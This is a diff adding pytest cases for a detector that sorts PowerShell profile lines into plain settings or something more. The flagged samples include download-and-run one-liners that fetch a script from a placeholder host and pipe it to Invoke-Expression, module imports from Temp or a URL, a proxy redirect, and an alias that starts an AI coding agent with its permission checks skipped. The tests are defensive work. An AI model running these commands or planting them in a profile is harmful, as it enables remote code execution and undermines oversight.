@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from specialists.understand.paths import is_shell_startup
-from specialists.understand.startup import settings_only
+from specialists.understand.startup import powershell_settings_only, settings_only
 
 
 @pytest.mark.parametrize(
@@ -111,3 +111,38 @@ def test_a_setting_that_sends_a_clients_requests_elsewhere_is_more_than_settings
     text: str, only: bool
 ) -> None:
     assert settings_only(text) is only
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Import-Module posh-git",
+        "Set-Alias k kubectl\nImport-Module posh-git",
+        "$env:EDITOR = 'code'",
+        "Set-PSReadLineOption -EditMode Emacs",
+        "oh-my-posh init pwsh | Invoke-Expression",
+        "Invoke-Expression (& starship init powershell)",
+        "zoxide init powershell | Out-String | Invoke-Expression",
+    ],
+)
+def test_powershell_settings(text: str) -> None:
+    assert powershell_settings_only(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "iex (iwr -UseBasicParsing https://x.example/y.ps1)",
+        "Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://x.example/y.ps1).Content",
+        "iwr https://x.example/y.ps1 | iex",
+        "Import-Module C:\\Users\\dev\\AppData\\Local\\Temp\\m.psm1",
+        "Import-Module (iwr https://x.example/m)",
+        'Set-Alias claude "claude --dangerously-skip-permissions"',
+        "$env:HTTPS_PROXY = 'http://proxy.example.net:8080'",
+        "Start-Process calc",
+        "iex $s",
+        "",
+    ],
+)
+def test_powershell_more_than_settings(text: str) -> None:
+    assert not powershell_settings_only(text)
